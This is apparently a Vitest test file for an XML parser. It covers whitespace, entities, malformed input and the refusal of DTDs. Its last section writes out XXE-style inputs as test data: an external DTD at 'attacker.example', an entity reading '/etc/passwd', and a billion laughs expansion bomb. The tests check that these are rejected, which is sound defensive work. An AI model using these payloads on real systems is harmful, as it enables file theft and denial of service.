import { describe, expect, test } from 'vitest';
import { readXml, readXmlText } from '../../src/xml/read-xml.js';
import { XmlError } from '../../src/xml/xml-error.js';

function refusal(xml: string | Uint8Array): XmlError | undefined {
  try {
    if (typeof xml === 'string') readXmlText(xml);
    else readXml(xml);
  } catch (error) {
    if (error instanceof XmlError) return error;
    throw error;
  }
  return undefined;
}

describe('readXmlText', () => {
  test('keeps white space in text', () => {
    expect(readXmlText('<a>\n  x \t</a>').text).toBe('\n  x \t');
  });

  test('joins text around children, comments and CDATA', () => {
    expect(readXmlText('<a>1<b>-</b>2<!-- x -->3<![CDATA[<4>&amp;]]>5</a>').text).toBe('123<4>&amp;5');
  });

  test('keeps children in order', () => {
    expect(readXmlText('<a><x>1</x><y/><x>2</x></a>').children.map((c) => c.localName + c.text)).toEqual([
      'x1',
      'y',
      'x2',
    ]);
  });

  test('resolves the five entities and character references', () => {
    const xml = '<a k="&lt;&quot;&#9;">&amp;&gt;&apos;&#65;&#x1F600;</a>';
    expect(readXmlText(xml)).toMatchObject({ text: "&>'A😀", attributes: [{ value: '<"\t' }] });
  });

  test('makes one line feed of every line break', () => {
    expect(readXmlText('<a>1\r\n2\r3\n</a>').text).toBe('1\n2\n3\n');
  });

  test('passes over a declaration, comments and processing instructions around the root', () => {
    expect(readXmlText('<?xml version="1.0"?>\n<!-- c --><?pi x?><a/><!-- d -->\n').localName).toBe('a');
  });

  test('reads text and surrogate pairs across the slices it is parsed in', () => {
    const long = '😀'.repeat(50_000);
    expect(readXmlText(`<a>x${long}</a>`).text).toBe(`x${long}`);
  });

  test('reads CRLF across the slices it is parsed in as one line feed', () => {
    const text = `x${'\r\n'.repeat(40_000)}`;
    expect(readXmlText(`<a>${text}</a>`).text).toBe(`x${'\n'.repeat(40_000)}`);
  });

  test('takes text about a DTD for text', () => {
    expect(readXmlText('<a><![CDATA[<!DOCTYPE a>]]><!-- <!DOCTYPE a> --></a>').text).toBe('<!DOCTYPE a>');
  });
});

describe('refused as not well-formed', () => {
  test.each([
    ['nothing', ''],
    ['white space alone', ' \n'],
    ['plain text', 'hello'],
    ['JSON', '{"a":1}'],
    ['text before the root', 'x<a/>'],
    ['text after the root', '<a/>x'],
    ['two roots', '<a/><b/>'],
    ['an unclosed element', '<a><b></b>'],
    ['a truncated tag', '<a><b'],
    ['mismatched tags', '<a></b>'],
    ['crossed tags', '<a><b></a></b>'],
    ['an end tag alone', '</a>'],
    ['a duplicate attribute', '<a k="1" k="2"/>'],
    ['an attribute without quotes', '<a k=1/>'],
    ['an attribute without a value', '<a k/>'],
    ['attributes without a blank between', '<a k="1"l="2"/>'],
    ['< in an attribute', '<a k="<"/>'],
    ['an undeclared entity', '<a>&nbsp;</a>'],
    ['a bare ampersand', '<a>a & b</a>'],
    ['an unfinished entity', '<a>&lt</a>'],
    ['a reference to NUL', '<a>&#0;</a>'],
    ['a reference to a surrogate', '<a>&#xD800;</a>'],
    ['a reference beyond Unicode', '<a>&#x110000;</a>'],
    ['a reference to a control character under XML 1.1', '<?xml version="1.1"?><a>&#1;</a>'],
    ['a NUL', '<a>\0</a>'],
    ['a control character', '<a>\x01</a>'],
    ['U+FFFF', '<a>\uFFFF</a>'],
    [']]> in text', '<a>]]></a>'],
    ['-- in a comment', '<a><!-- -- --></a>'],
    ['an XML declaration that is not first', ' <?xml version="1.0"?><a/>'],
    ['an unfinished comment before the root', '<!-- <a/>'],
    ['an unfinished CDATA section', '<a><![CDATA[ </a>'],
    ['a tag name that is none', '<1a/>'],
    ['a name that begins with a digit behind its prefix', '<p:1a xmlns:p="urn:p"/>'],
    [
      'a name that begins with a dot behind its prefix, which only the parser reads',
      '<p:.a xmlns:p="urn:p">&lt;</p:.a>',
    ],
    ['an attribute that begins with a hyphen behind its prefix', '<a xmlns:p="urn:p" p:-b="1"/>'],
    ['a declared prefix that begins with a digit', '<a xmlns:1="urn:p"/>'],
    ['a combining character behind a prefix', '<p:\u0301a xmlns:p="urn:p"/>'],
    ['a DTD in the middle', '<a><!DOCTYPE a></a>'],
    ['a DTD in lower case', '<!doctype a><a/>'],
  ])('%s', (_what, xml) => {
    expect(refusal(xml)?.code).toBe('not-well-formed');
  });

  test.each(['utf8', 'utf16le'] as const)('a second byte order mark, in %s', (encoding) => {
    expect(refusal(Buffer.from('\ufeff<a/>', encoding))).toBeUndefined();
    expect(refusal(Buffer.from('\ufeff\ufeff<a/>', encoding))?.code).toBe('not-well-formed');
  });

  test('a lone surrogate in a string is refused as a matter of characters', () => {
    expect(refusal('<a>\uD800</a>')?.code).toBe('charset');
    expect(refusal('<a>\uDC00x</a>')?.code).toBe('charset');
  });

  test('the error says where', () => {
    expect(refusal('<a>\n  <b></c>\n</a>')).toMatchObject({ line: 2, column: 9 });
  });

  test('the error quotes no more than a little of the document', () => {
    expect(refusal(`<a>&${'x'.repeat(5000)};</a>`)?.message.length).toBeLessThan(300);
    expect(refusal(`<${'x'.repeat(1000)}>`)?.message.length).toBeLessThan(300);
  });
});

describe('document type declarations', () => {
  const billionLaughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
  ).join('')}]><lolz>&lol9;</lolz>`;

  test.each([
    ['alone', '<!DOCTYPE a><a/>'],
    ['after a declaration and comments', '<?xml version="1.0"?>\r\n\t<!-- x --><?pi?> <!DOCTYPE a><a/>'],
    ['with an external subset', '<!DOCTYPE a SYSTEM "http://attacker.example/x.dtd"><a/>'],
    ['with an external entity', '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'],
    ['of the billion laughs', billionLaughs],
    ['behind a byte order mark', '\uFEFF<!DOCTYPE a><a/>'],
    ['that never ends', '<!DOCTYPE a ['],
  ])('%s are refused', (_what, xml) => {
    expect(refusal(xml)?.code).toBe('doctype');
  });

  test('are refused in UTF-16 too', () => {
    expect(refusal(Buffer.from('\uFEFF<!DOCTYPE a><a/>', 'utf16le'))?.code).toBe('doctype');
  });
});
